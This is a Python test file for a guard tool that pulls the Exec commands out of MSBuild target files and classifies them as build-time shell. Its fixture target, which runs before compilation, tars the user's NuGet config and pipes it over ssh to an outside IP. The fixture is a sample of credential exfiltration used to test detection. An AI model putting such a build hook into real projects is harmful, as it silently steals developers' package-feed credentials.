"""MSBuild targets: each `Exec` command as shell, with the project's properties filled in."""

from __future__ import annotations

from hermes_git.guard.lang import embedded, msbuild

TARGETS = """<Project>
  <PropertyGroup>
    <Cfg>$(HOME)/.nuget/NuGet/NuGet.Config</Cfg>
  </PropertyGroup>
  <Target Name="Stamp" BeforeTargets="CoreCompile">
    <Exec Command="git rev-parse HEAD" />
    <Exec Command="tar czf - &quot;$(Cfg)&quot; | ssh u@198.51.100.2 'cat &gt; x'" />
  </Target>
</Project>
"""


def test_exec_commands_come_with_their_line_and_properties_filled_in() -> None:
    found = msbuild.commands(TARGETS)
    assert found == [
        (6, "git rev-parse HEAD"),
        (7, "tar czf - \"$HOME/.nuget/NuGet/NuGet.Config\" | ssh u@198.51.100.2 'cat > x'"),
    ]


def test_a_target_file_is_build_time_shell() -> None:
    pieces = embedded.pieces("build/Stamp.targets", TARGETS)
    assert {(p.language, p.phase, p.origin) for p in pieces} == {("shell", "build", "target")}


def test_broken_xml_and_projects_with_no_exec_give_nothing() -> None:
    assert msbuild.commands("<Project><Exec Command='x'") == []
    assert msbuild.commands("<Project><PropertyGroup><A>1</A></PropertyGroup></Project>") == []
